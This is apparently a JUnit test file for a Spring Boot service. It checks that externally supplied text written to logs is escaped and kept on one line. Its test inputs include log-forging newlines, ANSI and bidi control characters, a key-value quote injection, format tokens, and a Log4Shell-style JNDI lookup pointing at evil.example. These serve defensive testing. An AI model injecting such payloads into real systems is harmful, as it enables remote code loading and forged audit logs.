package hoist.logging;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.slf4j.LoggerFactory;
import org.springframework.boot.Banner;
import org.springframework.boot.SpringApplication;
import org.springframework.boot.logging.LoggingSystem;

/** What a service writes to its log, as Spring Boot sets it up, when text from outside wants to be more than text. */
final class LogLinesTest {
    private static final String PATTERN = "LINE %-5level %msg %kvp%n%ex";
    private static final String FORGED = "LINE INFO  forged";

    private static final List<String> SETTINGS =
            List.of("CONSOLE_LOG_PATTERN", "CONSOLE_LOG_STRUCTURED_FORMAT", "FILE_LOG_PATTERN", "LOG_FILE", "LOG_PATH");

    private final PrintStream console = System.out;
    private final ByteArrayOutputStream written = new ByteArrayOutputStream();

    static final class Service {}

    @BeforeEach
    void listen() {
        System.setOut(new PrintStream(written, true, UTF_8));
    }

    @AfterEach
    void forgetTheSettings() {
        System.setOut(console);
        LoggingSystem.get(getClass().getClassLoader()).cleanUp();
        // Spring Boot hands settings to Logback as system properties, and leaves them there.
        SETTINGS.forEach(System::clearProperty);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "\r\n" + FORGED,
                "\n" + FORGED,
                "\u0085" + FORGED,
                "\u2028" + FORGED,
                "\u001b[2J\u001b[31mred",
                "\u009b31mred",
                "\u202Egpj.exe",
                "\u2066x\u2069",
                "a\u200Bb\uFEFF",
                "\u0000\u0008\u007f",
                "\uD800",
                "\" tenant=\"other",
                "${jndi:ldap://evil.example/a}",
                "%s%n%d{HH}"
            })
    void aTextFromOutsideStaysInItsLine(String hostile) {
        // Given
        start("--logging.pattern.console=" + PATTERN);

        // When
        LoggerFactory.getLogger("hoist")
                .atWarn()
                .addKeyValue("entry", hostile)
                .setCause(new IllegalStateException(hostile, new IllegalArgumentException(hostile)))
                .log("seen: {}", hostile);

        // Then
        var lines = ours();
        assertThat(lines).filteredOn(line -> line.startsWith("LINE")).hasSize(1);
        assertThat(lines.getFirst()).startsWith("LINE WARN  seen: ").endsWith("\"");
        assertThat(lines.getFirst().substring(lines.getFirst().lastIndexOf(" entry=")))
                .as("one key, whose value ends where it ends")
                .matches(" entry=\"([^\"]|\\\\\")*\"");
        assertThat(lines.stream().skip(1))
                .allMatch(line -> line.matches("(Caused by: |\\tat |\\t\\.\\.\\. |java\\.lang\\.Illegal).*"));
        assertThat(String.join("", lines).codePoints().filter(each -> each != '\t'))
                .noneMatch(LogLinesTest::isObeyed);
    }

    @Test
    void whatCannotBeSeenIsNamed() {
        assertThat(Printable.text("a\r\n\u001b[0m\u202Eb é 漢 \uD83D\uDE00"))
                .isEqualTo("a\\u000D\\u000A\\u001B[0m\\u202Eb é 漢 \uD83D\uDE00");
        assertThat(Printable.text(null)).isEqualTo("null");
        assertThat(Printable.text("\uD83D\uDE00".repeat(Printable.MOST + 1)))
                .isEqualTo("\uD83D\uDE00".repeat(Printable.MOST) + "…");
    }

    @Test
    void whyAStartFailedIsToldOnLinesOfItsOwn() {
        // Given
        start("--logging.pattern.console=" + PATTERN);

        // When
        LoggerFactory.getLogger("org.springframework.boot.diagnostics.LoggingFailureAnalysisReporter")
                .error("Action:\n\nSet \u001b[0mit");

        // Then
        assertThat(written()).contains("LINE ERROR Action:\n\nSet \\u001B[0mit");
    }

    @Test
    void suppressedExceptionsAreShownToo() {
        // Given
        start("--logging.pattern.console=" + PATTERN);
        var failure = new IllegalStateException("outer");
        failure.addSuppressed(new IllegalArgumentException("inner\n" + FORGED));

        // When
        LoggerFactory.getLogger("hoist").warn("seen", failure);

        // Then
        assertThat(ours()).anyMatch(line -> line.contains("Suppressed: ") && line.contains("inner\\u000A" + FORGED));
    }

    @Test
    void structuredLogsAndFilesAreStillSettings(@TempDir Path directory) throws Exception {
        // Given
        var file = directory.resolve("service.log");
        start(
                "--logging.structured.format.console=ecs",
                "--logging.file.name=" + file,
                "--logging.pattern.file=" + PATTERN);

        // When
        LoggerFactory.getLogger("hoist").atWarn().addKeyValue("entry", "7").log("seen\n" + FORGED);

        // Then
        assertThat(written()).contains("\"message\":\"seen\\n" + FORGED + "\"");
        assertThat(Files.readString(file)).contains("LINE WARN  seen\\u000A" + FORGED + " entry=\"7\"");
    }

    private static void start(String... settings) {
        var application = new SpringApplication(Service.class);
        application.setLogStartupInfo(false);
        application.setBannerMode(Banner.Mode.OFF);
        application.run(settings).close();
    }

    /** All that was written since the first line of this pattern. */
    private List<String> ours() {
        var all = written();
        return all.substring(Math.max(0, all.indexOf("LINE WARN"))).lines().toList();
    }

    private String written() {
        return written.toString(UTF_8);
    }

    private static boolean isObeyed(int codePoint) {
        return switch (Character.getType(codePoint)) {
            case Character.CONTROL, Character.FORMAT, Character.LINE_SEPARATOR, Character.SURROGATE -> true;
            default -> false;
        };
    }
}
